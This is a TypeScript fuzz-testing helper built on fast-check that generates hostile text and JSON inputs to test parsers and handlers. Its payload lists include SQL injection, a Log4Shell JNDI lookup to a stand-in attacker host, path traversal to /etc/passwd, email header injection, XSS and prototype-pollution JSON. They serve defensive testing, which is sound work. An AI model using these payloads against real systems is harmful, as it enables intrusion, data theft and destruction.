import fc from "fast-check";

const nested = (open: string, close: string, depth: number): string => open.repeat(depth) + close.repeat(depth);

/** Texts with a special meaning for databases, paths, mails, pages, logs or parsers. */
export const hostileTexts: readonly string[] = [
  "",
  " ",
  "\0",
  "a\0b",
  "\ud800",
  "\udfff\ud800",
  "\ufeff",
  "\u202egpj.exe",
  "\u2028",
  "😀".repeat(300),
  "e\u0301".repeat(100),
  "' or 1=1 --",
  "'; drop table orders; --",
  '" or ""="',
  "\\'; select pg_sleep(10); --",
  "$$; select 1; $$",
  "%",
  "%%%%",
  "_",
  "\\",
  "{}",
  "{1,2}",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "..",
  "../../etc/passwd",
  "..%2f..%2f",
  "%2e%2e",
  "%00",
  "%zz",
  "//evil.example",
  "a\r\nBcc: all@evil.example",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "javascript:alert(1)",
  "=1+1",
  "__proto__",
  "constructor",
  "toString",
  "$&",
  "NaN",
  "Infinity",
  "-1",
  "1e309",
  "0x10",
  "null",
  "true",
  "[object Object]",
  "0000-00-00",
  "2026-02-30",
  "9999-12-31T23:59:59.999Z",
  "0000-01-01T00:00:00Z",
  "9999-12-31T23:59:59-14:00",
  "2026-03-29T02:30:00+01:00",
  "+275760-09-13T00:00:00Z",
  "ﬀ@post.example",
  "a@b",
  '"a b"@post.example',
  "x".repeat(9_999),
  "x".repeat(10_000),
  "x".repeat(10_001),
  "a.".repeat(5_000),
  "1 ".repeat(5_000),
];

/** The same texts as JSON, and values that only JSON can express. */
const hostileJson: readonly string[] = [
  ...hostileTexts.map((text) => JSON.stringify(text)),
  "null",
  "[]",
  "{}",
  "-0",
  "1e309",
  "1e-400",
  "9007199254740993",
  "123456789012345678901234567890",
  "-9223372036854775809",
  '"\\ud800"',
  '{"__proto__":{"polluted":1}}',
  '{"constructor":{"prototype":{"polluted":1}}}',
  '{"toString":1,"valueOf":2,"hasOwnProperty":3}',
  '{"then":1}',
  '{"a":1,"a":2}',
  nested("[", "]", 19),
  nested("[", "]", 21),
  nested('{"a":', "}", 30).replace("}", "1}"),
  nested("[", "]", 1_000),
  JSON.stringify(Array(1000).fill(0)),
  JSON.stringify(Array(1001).fill(0)),
  JSON.stringify(Object.fromEntries(Array.from({ length: 2000 }, (_, at) => [`key${at}`, at]))),
];

/** Whole inputs that are no JSON, or JSON of an unexpected form. */
const hostileWholes: readonly string[] = [
  "",
  " ",
  "null",
  "[]",
  "0",
  '"text"',
  "true",
  "{",
  "}",
  "{'a':1}",
  "{a:1}",
  '{"a":1,}',
  '{"a":undefined}',
  "NaN",
  "\ufeff{}",
  '{"body":',
  '{"json":{}}',
  '{"0":{}}',
  '{"__proto__":{}}',
  '{"constructor":{"prototype":{}}}',
  nested("[", "]", 100_000),
];

const marker = "\ue000here\ue000";

/** @returns the value as JSON, with one of its parts, possibly the whole, replaced by `json` */
function replaced(value: unknown, place: number, json: string): string {
  const places = (visit: (place: number, part: unknown) => unknown): [string, number] => {
    let next = 0;
    const text = JSON.stringify(value, (_key, part: unknown) => visit(next++, part));
    return [text, next];
  };
  const [, count] = places((_place, part) => part);
  const [marked] = places((at, part) => (at === place % count ? marker : part));
  return marked.replace(JSON.stringify(marker), () => json);
}

/** @returns JSON texts made from valid inputs: one part is hostile, or the whole text */
export function hostileInput(valid: fc.Arbitrary<unknown>): fc.Arbitrary<string> {
  const random = fc
    .oneof(fc.string({ unit: "binary" }), fc.jsonValue({ maxDepth: 4 }))
    .map((any) => JSON.stringify(any));
  const somewhere = fc
    .tuple(valid, fc.nat(1000), fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...hostileJson) }, random))
    .map(([value, at, json]) => replaced(value, at, json));
  const key = fc
    .tuple(valid, fc.constantFrom("__proto__", "constructor", "prototype", "x".repeat(10_001), "a\0b", ""))
    .map(([value, name]) => JSON.stringify(value).replace("{", () => `{${JSON.stringify(name)}:{"polluted":1},`));
  return fc.oneof(
    { weight: 10, arbitrary: somewhere },
    { weight: 1, arbitrary: key.map((text) => text.replace(",}", "}")) },
    { weight: 1, arbitrary: fc.oneof(fc.constantFrom(...hostileWholes), random) },
  );
}
